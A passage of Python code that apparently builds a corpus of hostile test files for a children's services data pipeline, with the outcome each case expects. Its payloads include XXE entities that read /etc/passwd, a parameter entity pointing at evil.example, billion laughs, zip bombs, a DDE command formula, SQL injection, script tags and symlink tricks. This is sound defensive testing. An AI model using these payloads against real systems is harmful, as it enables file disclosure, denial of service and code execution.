                       zip(cp_rows(12), ["Financial abuse", "N3G"] + [""] * 10))])))
    # ------------------------------------------------------------------ .xlsx
    x7 = "annex_a_list_7_child_protection.xlsx"
    add(_file_case("H40", ".xlsx", cp, f"992_eastmere/2025-12-31/{x7}",
                   "a 6 KB workbook declaring the whole grid (A1:XFD1048576)",
                   Refused("sheet 'List 7'", ("1,048,576 rows x 16,384 columns",)), _sparse, pipeline=True))
    add(_file_case("H41", ".xlsx", cp, f"992_eastmere/2023-06-30/{x7}", "one stray cell in column XFD",
                   Refused("sheet 'List 7'", ("16,384 columns",)), _stray_cell))
    add(_file_case("H42", ".xlsx", cp, f"992_eastmere/2023-03-31/{x7}", "a row number in single quotes (r='1048576')",
                   Refused("sheet 'List 7'", ("written in an unusual way",)), _single_quotes))
    add(_file_case("H43", ".xlsx", cp, f"992_eastmere/2022-12-31/{x7}", "a dimension written with a character reference",
                   Refused("sheet 'List 7'", ("written in an unusual way",)), _entity_refs))
    add(_file_case("H44", ".xlsx", cp, f"992_eastmere/2022-09-30/{x7}",
                   "a zip whose directory says a sheet unpacks to 4 GB",
                   Refused("file", ("unpacks to", "zip bomb")), _declared_bomb))
    add(Case("H45", ".xlsx", cp, f"992_eastmere/2022-06-30/{x7}",
             "a real zip bomb: 600 MB of zeros in 600 KB (made by the test)",
             Refused("file", ("unpacks to", "zip bomb")), lambda root: zip_bomb(root / f"992_eastmere/2022-06-30/{x7}"),
             committed=False))
    add(Case("H46", ".xlsx", cp, f"992_eastmere/2022-03-31/{x7}",
             "260,000 rows x 20 columns, every cell filled (5.2 million cells; made by the slow test)",
             Refused("sheet 'List 7'", ("260,000 rows x 20 columns",)),
             lambda root: big_sheet(root / f"992_eastmere/2022-03-31/{x7}"), committed=False, slow=True))
    add(_file_case("H47", ".xlsx", cp, f"992_eastmere/2021-12-31/{x7}",
                   "a DOCTYPE with an external entity in the sheet XML", Refused("part 'xl/worksheets/sheet1.xml'",
                                                                                ("DOCTYPE",)), _xlsx_doctype))
    add(_file_case("H48", ".xlsx", cp, f"992_eastmere/2021-09-30/{x7}", "sheet XML not well-formed",
                   Refused("sheet 'List 7'", ("not well-formed XML",)), _xlsx_broken_xml))
    add(_file_case("H49", ".xlsx", cp, f"992_eastmere/2021-06-30/{x7}", "a text file named .xlsx",
                   Refused("file", ("not a zip file",)), "Child Unique ID,Gender\r\nC1,M\r\n"))
    add(_file_case("H50", ".xlsx", cp, f"992_eastmere/2021-03-31/{x7}", "a zip cut short",
                   Refused("file", ("not a readable .xlsx",)), lambda: _xlsx_bytes()[:900]))
    add(_file_case("H51", ".xlsx", cp, f"992_eastmere/2020-12-31/{x7}", "an encrypted workbook (OLE2 container)",
                   Refused("file", ("not a zip file",)), b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1000))
    add(_file_case("H52", ".xlsx", cp, f"992_eastmere/2020-09-30/{x7}", "formulas in cells (no saved values)",
                   Loaded(3, note="read as blank (data only, never evaluated)"),
                   lambda: _xlsx_bytes(rows=[r[:15] + ["=cmd|' /C calc'!A0", "@SUM(A1)"] for r in cp_rows(3)])))
    add(_file_case("H53", ".xlsx", cp, f"992_eastmere/2020-06-30/{x7}", "a workbook with no cells",
                   Refused("sheet 'List 7', row 1", ("worksheet is empty",)), lambda: _xlsx_bytes(rows=[], header=[])))
    # ------------------------------------------------------------------ CIN census XML
    cin = "cin_census"
    y = "991_northbrook/2025-03-31/cin_census_2025.xml"

    def cin_case(cid, what, outcome, edit, **kw):
        return _file_case(cid, "CIN XML", cin, y, what, outcome, lambda: _cin(edit), **kw)

    add(cin_case("H60", "DOCTYPE with an external entity (XXE) read into LAchildID",
                 Refused("line 3", ("DOCTYPE declarations are not allowed",)),
                 lambda t: t.replace("<Message>", '<!DOCTYPE Message [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                                     "<Message>", 1).replace("<LAchildID>NB25001", "<LAchildID>&x;", 1)))
    add(cin_case("H61", "billion laughs (nested internal entities)",
                 Refused("line 3", ("DOCTYPE declarations are not allowed",)),
                 lambda t: t.replace("<Message>", '<!DOCTYPE Message [<!ENTITY a "aaaaaaaaaa">'
                                     + "".join(f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">'
                                               for i in range(9)) + "]>\n<Message>", 1)))
    add(cin_case("H62", "a parameter entity in an internal subset",
                 Refused("line 3", ("DOCTYPE declarations are not allowed",)),
                 lambda t: t.replace("<Message>", '<!DOCTYPE Message [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">'
                                     "%p;]>\n<Message>", 1)))
    add(cin_case("H63", "an XInclude of /etc/passwd inside a Child",
                 Loaded(4, note="the element is ignored (reported), nothing included"),
                 lambda t: t.replace("<Sex>F</Sex>", '<Sex>F</Sex><xi:include xmlns:xi="http://www.w3.org/2001/XInclude"'
                                     ' href="/etc/passwd" parse="text"/>', 1)))
    add(cin_case("H64", "elements nested 5,000 deep", Refused("line 25", ("nested more than 256 deep",)),
                 lambda t: t.replace("<Sex>F</Sex>", "<Sex>F</Sex>" + "<a>" * 5000 + "x" + "</a>" * 5000, 1)))
    add(Case("H65", "CIN XML", cin, y, "a 12 MB text node (made by the test)",
             Refused("line 13", ("longer than 10 MB",)),
             lambda root: _write(root / y, _cin(
                 lambda t: t.replace("<SoftwareCode>Mosaic", "<SoftwareCode>" + "A" * 12_000_000, 1))),
             committed=False))
    add(cin_case("H66", "UTF-16 with a byte-order mark", Loaded(4), lambda t: t))  # encoded below
    add(cin_case("H67", "SQL injection in LAchildID, HTML in a code",
                 Loaded(4, note="identifiers pseudonymised; the code rejected with a message; both inert"),
                 lambda t: t.replace("<LAchildID>NB25001", "<LAchildID>NB1'); DROP TABLE raw.cin_child;--", 1)
                 .replace("<PrimaryNeedCode>N1", "<PrimaryNeedCode>&lt;script&gt;alert(1)&lt;/script&gt;", 1)))
    add(cin_case("H68", "4 MB of comments before the root element",
                 Refused("line 1", ("no root element in the first 4 MB",)),
                 lambda t: t.replace("<Message>", "<!--" + "x" * (4 * 1024 * 1024) + "-->\n<Message>", 1),
                 committed=False))
    add(cin_case("H69", "cut off in the middle of a Child", Refused("line", ("truncated",)),
                 lambda t: t[: t.index("<Child>", t.index("<Child>") + 1) + 40]))
    # ------------------------------------------------------------------ reference data
    ref = "reference/population/population_mid_2025.csv"
    add(_file_case("H70", "reference", "ons_population", ref, "a population cell of 99,999,999",
                   Loaded(72, note="the blocking check population_denominators_plausible fails"), _population_typo))
    add(_file_case("H71", "reference", "ons_population", ref, "semicolon-separated population",
                   Loaded(72), lambda: _population(delimiter=";")))
    add(_file_case("H72", "reference", "ons_population", ref, "UTF-16 population with a byte-order mark",
                   Loaded(72, encoding="utf-16"), lambda: b"\xff\xfe" + _population().encode("utf-16-le")))
    add(_file_case("H73", "reference", "ons_population", ref, "two sex columns",
                   Refused("line 1 (header)", ("more than one column",)),
                   lambda: _population([r + [r[4]] for r in population_rows()], header=POPULATION_HEADER + ["Sex"])))
    add(_file_case("H74", "reference", "ons_population", ref, "one line with an extra field",
                   Loaded(72, {5: "malformed_line"}, note="its cell is missing: population_denominators_complete fails"),
                   lambda: _population([r + ["x"] if i == 3 else r for i, r in enumerate(population_rows())])))
    add(_file_case("H75", "reference", "la_codes", "reference/la_codes.csv", "HTML/JS in an authority's name",
                   Loaded(2, note="kept as text; escaped in the board report"), pipeline=True, content=
                   "old_la_code,new_la_code,la_name\r\n991,E06000901,Northbrook\r\n"
                   "992,E06000902,Eastmere <script>alert('la')</script>\r\n"))
    add(_file_case("H76", "reference", "ward_boundaries", "reference/wards_2024.geojson",
                   "arrays nested 5,000 deep", Refused("file", ("nested too deep",)),
                   lambda: '{"type": "FeatureCollection", "features": ' + "[" * 5_000 + "]" * 5_000 + "}"))
    add(_file_case("H77", "reference", "ward_boundaries", "reference/wards_2024.geojson",
                   "HTML/JS in a ward name", Loaded(1, note="kept as text"),
                   lambda: _geo(FEATURE.format(i=1, name="<script>alert(1)</script>"))))
    add(_file_case("H78", "reference", "postcode_lookup", "reference/postcode_lookup_2025.csv",
                   "formula-like ward names", Loaded(2, note="kept as text"),
                   "pcds,osward,lsoa21,oslaua\r\nQN1 1ZZ,E05900001,E01900001,E06000901\r\n"
                   "QN2 2ZZ,E05900002,E01900002,E06000901\r\n"))
    add(_file_case("H79", "reference", "deprivation", "reference/imd_lsoa_2025.csv", "UTF-16 IMD file",
                   Loaded(2, encoding="utf-16"),
                   lambda: b"\xff\xfe" + ("LSOA code (2021),Index of Multiple Deprivation (IMD) Rank,"
                                          "Index of Multiple Deprivation (IMD) Decile\r\nE01900001,20345,7\r\n"
                                          "E01900002,1204,1\r\n").encode("utf-16-le")))
    # ------------------------------------------------------------------ folder layout (the scan)
    person = csv_text(PERSON_HEADER, person_rows(3))
    add(Case("L01", "layout", "scan", "archive/2026-03-31/csc_person_list.csv", "an archive folder beside the authorities",
             Scanned(skipped={"archive": "not an authority folder"}),
             _layout({"archive/2026-03-31/csc_person_list.csv": person}), pipeline=True))
    add(Case("L02", "layout", "scan", "northbrook/2026-03-31/csc_person_list.csv", "an authority folder without its LA number",
             Scanned(skipped={"northbrook": "must start with the DfE three-digit LA number"}),
             _layout({"northbrook/2026-03-31/csc_person_list.csv": person}), pipeline=True))
    add(Case("L03", "layout", "scan", "993_westvale*/2025-03-31/", "two folders with one LA number",
             Scanned(skipped={"993_westvale": "one of 2 folders for LA 993"},
                     problems={"993_westvale/2025-03-31/annex_a_list_7_child_protection.csv": "one of 2 folders",
                               "993_westvale_old/2025-03-31/annex_a_list_7_child_protection.csv": "one of 2 folders"}),
             _two_la_folders))
    add(Case("L04", "layout", "scan", "991_northbrook/2026-02-30/", "a period folder that is not a date (30 February)",
             Scanned(skipped={"991_northbrook/2026-02-30": "not a period folder"}),
             _layout({"991_northbrook/2026-02-30/csc_person_list.csv": person}), pipeline=True))
    add(Case("L05", "layout", "scan", "991_northbrook/2026-02-28/", "a date that is not a quarter end",
             Scanned(skipped={"991_northbrook/2026-02-28": "not a quarter end"}),
             _layout({"991_northbrook/2026-02-28/csc_person_list.csv": person})))
    add(Case("L06", "layout", "scan", "991_northbrook/2030-03-31/", "a quarter that has not ended",
             Scanned(skipped={"991_northbrook/2030-03-31": "has not ended yet"}),
             _layout({"991_northbrook/2030-03-31/csc_person_list.csv": person}), pipeline=True))
    add(Case("L07", "layout", "scan", "991_northbrook/2015-03-31/", "a quarter before the earliest supported",
             Scanned(skipped={"991_northbrook/2015-03-31": "before the earliest period"}),
             _layout({"991_northbrook/2015-03-31/csc_person_list.csv": person})))
    add(Case("L08", "layout", "scan", "992_eastmere/2025-09-30/early_help_episodes.csv",
             "a named pipe named like an extract (made by the test)",
             Scanned(skipped={"992_eastmere/2025-09-30/early_help_episodes.csv": "not a regular file"}), _fifo,
             committed=False, pipeline=True))
    add(Case("L09", "layout", "scan", "991_northbrook/2025-06-30/csc_person_list.csv",
             "a link to a file outside incoming (made by the test)",
             Scanned(skipped={"991_northbrook/2025-06-30/csc_person_list.csv": "pointing outside the incoming folder"}),
             _link_out, committed=False, pipeline=True))
    add(Case("L10", "layout", "scan", "994_linked", "an authority folder that links outside incoming (made by the test)",
             Scanned(skipped={"994_linked": "pointing outside the incoming folder"}), _link_folder_out, committed=False))
    add(Case("L11", "layout", "scan", "991_northbrook/2024-09-30/csc_person_list.csv",
             "a link to a file elsewhere inside incoming (made by the test)",
             Scanned(placed=("991_northbrook/2024-09-30/csc_person_list.csv",)), _link_inside, committed=False))
    add(Case("L12", "layout", "scan", "991_northbrook/2024-06-30/csc_person_list.csv", "a broken link (made by the test)",
             Scanned(skipped={"991_northbrook/2024-06-30/csc_person_list.csv": "a broken link"}), _broken_link,
             committed=False))
    add(Case("L13", "layout", "scan", "991_northbrook/2026-03-31/early_help_episodes.csv/",
             "a folder named like an extract (made by the test: git keeps no empty folder)",
             Scanned(skipped={"991_northbrook/2026-03-31/early_help_episodes.csv": "a folder inside a period folder"}),
             _layout({"991_northbrook/2026-03-31/early_help_episodes.csv/": ""}), committed=False, pipeline=True))
    add(Case("L14", "layout", "scan", "991_northbrook/2024-12-31/", "two different CP lists for one quarter (CSV and .xlsx)",
             Scanned(problems={"991_northbrook/2024-12-31/annex_a_list_7_child_protection.csv": "one of 2",
                               "991_northbrook/2024-12-31/annex_a_list_7_child_protection.xlsx": "one of 2"}),
             _two_cp_lists, pipeline=True))
    add(Case("L15", "layout", "scan", "992_eastmere/2024-12-31/", "a CP list and a byte-for-byte copy under another name",
             Scanned(problems={"992_eastmere/2024-12-31/CP list (copy).csv": "the same content as"},
                     placed=("992_eastmere/2024-12-31/annex_a_list_7_child_protection.csv",)), _identical_copies))
    add(Case("L16", "layout", "scan", "992_eastmere/2024-12-31/", "two adult services files, two services",
             Scanned(placed=("992_eastmere/2024-12-31/adult_mental_health_episodes.csv",
                             "992_eastmere/2024-12-31/adult_substance_misuse_episodes.csv")), _two_services,
             pipeline=True))
    add(Case("L17", "layout", "scan", "992_eastmere/2024-09-30/", "one adult services file twice under two names",
             Scanned(problems={"992_eastmere/2024-09-30/adult_mental_health_episodes.csv": "the same content as"},
                     placed=("992_eastmere/2024-09-30/adult_mental_health_copy_episodes.csv",)), _same_service_twice))
    add(Case("L18", "layout", "scan", "stray.csv", "a file at the top of incoming",
             Scanned(skipped={"stray.csv": "not a folder"}), _layout({"stray.csv": person}), pipeline=True))
    add(Case("L19", "layout", "scan", "991_northbrook/loose.csv", "a file in an authority folder, outside any period",
             Scanned(skipped={"991_northbrook/loose.csv": "not a folder"}),
             _layout({"991_northbrook/loose.csv": person}), pipeline=True))
    add(Case("L20", "layout", "scan", "991_northbrook/2026-03-31/notes.txt", "a file no source recognises",
             Scanned(skipped={"991_northbrook/2026-03-31/notes.txt": "not recognised as any source"}),
             _layout({"991_northbrook/2026-03-31/notes.txt": "minutes of the meeting\n"}), pipeline=True))
    add(Case("L21", "layout", "scan", "991_northbrook/2025-12-31/cin_census_2025.xml",
             "a CIN return outside a 31 March folder",
             Scanned(skipped={"991_northbrook/2025-12-31/cin_census_2025.xml": "belongs in the 31 March folder"}),
             _layout({"991_northbrook/2025-12-31/cin_census_2025.xml": CIN_BASE.read_text(encoding="utf-8")})))
    add(Case("L22", "layout", "scan", "reference/postcode_lookup_2025.csv",
             "a reference file that links outside incoming (made by the test)",
             Scanned(problems={"reference/postcode_lookup_2025.csv": "pointing outside the incoming folder"}),
             _reference_link_out, committed=False))
    add(Case("L23", "layout", "scan", "reference/population/population_mid_2025.csv",
             "the population file is a named pipe (made by the test)",
             Scanned(problems={"reference/population/population_mid_2025.csv": "not a regular file"}),
             _reference_fifo, committed=False))
    return c


def _eh_unclosed() -> str:
    lines = csv_text(EH_HEADER, eh_rows(24)).split("\r\n")
    lines[8] = lines[8].replace(",Male,", ',"Male,', 1).replace(",Female,", ',"Female,', 1)  # line 9
    return "\r\n".join(lines)


def worker_job(path: Path, period_end) -> tuple[str, str]:
    """For the process-pool tests: 'raise…' raises a reader's error, 'crash…' kills its worker."""
    from sources.errors import SourceFileError

    name = Path(path).name
    if name.startswith("raise"):
        raise SourceFileError(path, "line 3", "made to fail")
    if name.startswith("crash"):
        os._exit(3)
    return ("ok", name)


def worker_crash_refusal(path: Path, period_end, message: str) -> tuple[str, str]:
    return ("crashed", message)


CASES = _cases()
_BY_ID = {case.id: case for case in CASES}


def case(cid: str) -> Case:
    return _BY_ID[cid]


def _utf16_cin(root: Path) -> None:
    c = case("H66")
    text = _cin(lambda t: t).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    _write(root / c.file, b"\xff\xfe" + text.encode("utf-16-le"))


def build_case(c: Case, root: Path) -> None:
    """Write case ``c`` under ``root`` (a folder standing for incoming/)."""
    if c.id == "H66":
        _utf16_cin(root)
    else:
        c.build(root)


def readme_table() -> str:
    lines = ["| id | reader | case | expected outcome | committed | `neglect run` |", "|---|---|---|---|---|---|"]
    for c in CASES:
        where = c.file
        lines.append(f"| {c.id} | {c.area}: `{c.reader}` | {c.what} (`{where}`) | {c.outcome} | "
                     f"{'yes' if c.committed else 'made by the test'} | {'yes' if c.pipeline else ''} |")
    return "\n".join(lines)


def write_committed(target: Path = CASES_DIR) -> None:
    """(Re)write every committed case under ``target/<id>/`` and README.md's table."""
    if target.exists():
        shutil.rmtree(target)
    for c in CASES:
        if c.committed:
            build_case(c, target / c.id)
    readme = CORPUS / "README.md"
    text = readme.read_text(encoding="utf-8")
    start, end = "<!-- cases: generated by `python tests/hostile_corpus.py` -->", "<!-- end of cases -->"
    before, _, rest = text.partition(start)
    _, _, after = rest.partition(end)
    readme.write_text(before + start + "\n" + readme_table() + "\n" + end + after, encoding="utf-8")


if __name__ == "__main__":
    sys.path.insert(0, str(HERE.parent))
    write_committed()
    print(f"{sum(c.committed for c in CASES)} committed cases written to {CASES_DIR}; {len(CASES)} cases in all")
